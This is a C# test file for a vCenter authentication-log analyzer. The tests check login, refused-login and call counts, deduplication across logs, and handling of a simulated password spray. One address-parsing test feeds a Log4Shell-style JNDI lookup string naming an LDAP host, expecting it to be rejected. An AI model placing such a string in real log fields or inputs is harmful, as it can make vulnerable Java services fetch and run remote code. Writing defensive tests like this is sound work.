using System.Text;
using VcsaAuthGuard.ApiLoad.Measuring;
using VcsaAuthGuard.ApiLoad;
using VcsaAuthGuard.Fixtures;
using VcsaAuthGuard.Logs;
using VcsaAuthGuard.Logs.Inputs;

namespace VcsaAuthGuard.Tests.ApiLoad;

/// <summary>Load of logs as people publish them; their origin is in tests/fixtures/cases/README.md.</summary>
public class LoadCaseTests
{
    [Fact]
    public void A_call_behind_a_relays_header_is_a_call_at_its_own_time()
    {
        ApiClientLoad load = Assert.Single(ReadCase("f07-relay-wrapped.log"));

        Assert.Equal(1, load.Calls);
        Assert.Equal(new DateTimeOffset(2026, 9, 16, 7, 5, 15, 540, TimeSpan.Zero), load.FirstSeen);
    }

    [Theory]
    [InlineData("f01-elastic-vsphere.log", @"VSPHERE.LOCAL\Administrator", "10.100.10.190", 3, 3, 9)]
    [InlineData("f02-wazuh-fulllog.log", @"VSPHERE.LOCAL\svc-snapshot", "192.0.2.47", 1, 1, 0)]
    [InlineData("f03-logstash-vcsa67.log", "root", "192.0.2.17", 1, 0, 0)]
    public void Events_behind_a_shippers_header_name_who_came_from_where(
        string name, string user, string address, long logins, long logouts, long calls)
    {
        ApiClientLoad load = ReadCase(name)[0];

        Assert.Equal((user, address, logins, logouts, calls), (load.User, load.Address, load.Logins, load.Logouts, load.Calls));
    }

    [Fact]
    public void A_spray_of_names_folds_the_rarest_and_keeps_who_is_refused_often()
    {
        const int Names = 30_000;
        StringBuilder log = new();
        for (int i = 0; i < Names; i++)
        {
            string user = i % 100 == 0 ? "svc-backup" : $"user{i}";
            log.Append("Event [1] [1-1] [2026-02-11T02:00:00Z] [vim.event.BadUsernameSessionEvent] [error] [")
                .Append(user)
                .Append("] [] [1] [Cannot login ")
                .Append(user)
                .Append("@192.0.2.7]\n");
        }

        ApiLoadReader reader = new(LoadRules.Default, new LogReadReport());
        LogInput input = LogInput.FromStream("events.log", new MemoryStream(Encoding.UTF8.GetBytes(log.ToString())));
        List<ApiClientLoad> loads = [.. reader.Read([input], TestContext.Current.CancellationToken)];
        Assert.Equal(Names, loads.Sum(load => load.RefusedLogins));
        Assert.Equal(Names / 100, Assert.Single(loads, load => load.User == "svc-backup").RefusedLogins);
        Assert.InRange(loads.Count, 5_000, 10_001);
        Assert.Equal(reader.ClientsFolded, Assert.Single(loads, load => load.User == "(others)").RefusedLogins);
    }

    [Fact]
    public void A_refused_sign_on_in_two_logs_counts_once()
    {
        const string Event =
            "{\"user\":\"svc-backup@vsphere.local\",\"client\":\"192.0.2.182\",\"timestamp\":\"04/06/2019 12:47:50 UTC\","
            + "\"description\":\"\",\"eventSeverity\":\"INFO\",\"type\":\"com.vmware.sso.LoginFailure\"}";
        ApiLoadReader reader = new(LoadRules.Default, new LogReadReport());
        LogInput[] inputs =
        [
            Stream("audit/sso-events/audit_events.log", $"2019-04-06T12:47:50.424Z {Event}\n2019-04-06T12:47:50.900Z {Event}\n"),
            Stream("vmware/sso/websso.log", $"[2019-04-06T12:47:51.003Z tomcat-http--3 vsphere.local INFO auditlogger] {Event}\n"),
        ];
        ApiClientLoad load = Assert.Single(reader.Read(inputs, TestContext.Current.CancellationToken));
        Assert.Equal(2, load.RefusedLogins);
    }

    [Fact]
    public void A_refused_login_is_that_of_the_account_that_its_entry_names()
    {
        List<ApiClientLoad> loads = ReadCase("f04-kb-impersonate.log");

        Assert.Equal(2, loads.Sum(load => load.RefusedLogins));
        Assert.Equal(1, Assert.Single(loads, load => load.User == "USERNAME").RefusedLogins);
    }

    [Fact]
    public void The_account_that_vpxd_logs_beside_a_login_owns_its_session()
    {
        ApiClientLoad load = Assert.Single(ReadCase("d10-vpxd.log"), load => load.User is not null);

        Assert.Equal(@"NETLAB\svc-backup", load.User);
        Assert.Equal(1, load.Logins);
        Assert.Equal(1, load.Calls);
    }

    [Fact]
    public void Of_a_list_of_forwarded_addresses_the_last_is_the_clients()
    {
        ApiClientLoad load = Assert.Single(ReadCase("f06-websso-67.log"));

        Assert.Equal("192.0.2.3", load.Address);
        Assert.Equal(1, load.RefusedLogins);
    }

    [Fact]
    public void Events_that_a_broker_wrote_as_JSON_are_read()
    {
        List<ApiClientLoad> loads = ReadCase("f19-veba-cloudevents.jsonl");

        ApiClientLoad backup = Assert.Single(loads, load => load.User == @"VSPHERE.LOCAL\svc-backup");
        Assert.Equal("192.0.2.9", backup.Address);
        Assert.Equal(1, backup.Logins);
        ApiClientLoad machine = Assert.Single(loads, load => load.User == "machine-b8eb9a7f");
        Assert.Equal("127.0.0.1", machine.Address);
        Assert.Equal(1, machine.Logouts);
        Assert.Equal(34, machine.Calls);
    }

    [Theory]
    [InlineData("${jndi:ldap://192.0.2.3:1270/lol}", null)]
    [InlineData("203.0.113.7, 2001:db8::7", "2001:db8::7")]
    [InlineData("203.0.113.7,vc01.example.org", "vc01.example.org")]
    [InlineData("", null)]
    public void What_is_no_address_is_shown_as_none(string text, string? address) => Assert.Equal(address, NetworkAddress.Parse(text));

    private static List<ApiClientLoad> ReadCase(string name) =>
        [.. new ApiLoadReader(LoadRules.Default, new LogReadReport()).Read(
            LogInputFinder.Find([Repository.Case(name)], new LogReadReport(), LogKinds.All), TestContext.Current.CancellationToken)];

    private static LogInput Stream(string name, string text) => LogInput.FromStream(name, new MemoryStream(Encoding.UTF8.GetBytes(text)));
}
